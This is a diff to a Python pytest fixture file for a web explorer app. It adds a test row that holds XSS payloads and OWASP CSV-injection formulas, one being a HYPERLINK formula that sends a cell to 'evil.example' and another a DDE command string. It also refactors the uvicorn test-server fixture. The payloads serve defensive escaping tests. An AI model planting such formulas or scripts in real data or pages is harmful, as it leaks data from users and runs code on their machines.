@@ -4,9 +4,11 @@ free loopback port, and Debian's Chromium driven by playwright."""
 from __future__ import annotations
 
 import shutil
+import socket
 import threading
 import time
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -18,6 +20,16 @@ from atlas_assets_tests.conftest import store_at
 CHROMIUM = Path("/usr/bin/chromium")
 PAYLOAD = "<img src=x onerror=alert(1)><script>alert(2)</script> & \"quotes\" 'too'"
 PAYLOAD_ID = "xss-payload"
+# Spreadsheet formulas (OWASP CSV injection) in the payload datum's other text columns: the title
+# stays the HTML payload, so the embedding, and with it the map, is unchanged.
+FORMULAS = {
+    "authors": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "journal_ref": "+cmd|' /C calc'!A0",
+    "doi": "-2+3",
+    "categories": "@SUM(1+1)",
+    "v1_created": "\t=1+1",
+    "update_date": "\r=1+1",
+}
 DATASET = "explorer-test"
 
 
@@ -44,7 +56,7 @@ def explorer_map(tmp_path_factory: pytest.TempPathFactory, arxiv: pd.DataFrame):
 
     frame = arxiv.head(300).reset_index(drop=True)
     payload = {column: None for column in frame.columns}
-    payload.update(arxiv_id=PAYLOAD_ID, title=PAYLOAD, abstract=PAYLOAD)
+    payload.update(arxiv_id=PAYLOAD_ID, title=PAYLOAD, abstract=PAYLOAD, **FORMULAS)
     frame = pd.concat([frame, pd.DataFrame([payload])], ignore_index=True)
     for column in frame.columns:  # all-None cells would otherwise make an object column of NaN
         if frame[column].dtype == object:
@@ -57,16 +69,21 @@ def explorer_map(tmp_path_factory: pytest.TempPathFactory, arxiv: pd.DataFrame):
         yield ExplorerMap(root, DATASET, ids, ids.index(PAYLOAD_ID))
 
 
-@pytest.fixture(scope="package")
-def server_url(explorer_map: ExplorerMap) -> Iterator[str]:
-    """The explorer served by uvicorn in a thread on a free loopback port."""
-    import uvicorn
+@contextmanager
+def running_server(
+    app, host: str = "127.0.0.1", send_buffer: int | None = None, **limits: float
+) -> Iterator[socket.socket]:
+    """``app`` served in a thread by the uvicorn server ``atlas serve`` runs (same protocol,
+    limits and timeouts; ``limits`` shortens them), on a free port of ``host``.
 
-    from atlas_assets.explorer.server import bind_socket, create_app, url_for
+    ``send_buffer`` fixes the kernel's send buffer of accepted connections (they inherit it),
+    as a slow network would; loopback's autotuning otherwise buffers megabytes."""
+    from atlas_assets.explorer.server import bind_socket, make_server
 
-    sock = bind_socket("127.0.0.1", 0)
-    app = create_app(explorer_map.dataset)
-    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
+    sock = bind_socket(host, 0)
+    if send_buffer is not None:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, send_buffer)
+    server = make_server(app, **limits)
     thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
     thread.start()
     deadline = time.monotonic() + 20
@@ -74,10 +91,21 @@ def server_url(explorer_map: ExplorerMap) -> Iterator[str]:
         if time.monotonic() > deadline or not thread.is_alive():
             raise RuntimeError("the explorer server did not start")
         time.sleep(0.05)
-    yield url_for(sock)
-    server.should_exit = True
-    thread.join(10)
-    sock.close()
+    try:
+        yield sock
+    finally:
+        server.should_exit = True
+        thread.join(10)
+        sock.close()
+
+
+@pytest.fixture(scope="package")
+def server_url(explorer_map: ExplorerMap) -> Iterator[str]:
+    """The explorer served by uvicorn in a thread on a free loopback port."""
+    from atlas_assets.explorer.server import create_app, url_for
+
+    with running_server(create_app(explorer_map.dataset)) as sock:
+        yield url_for(sock)
 
 
 @pytest.fixture(scope="package")
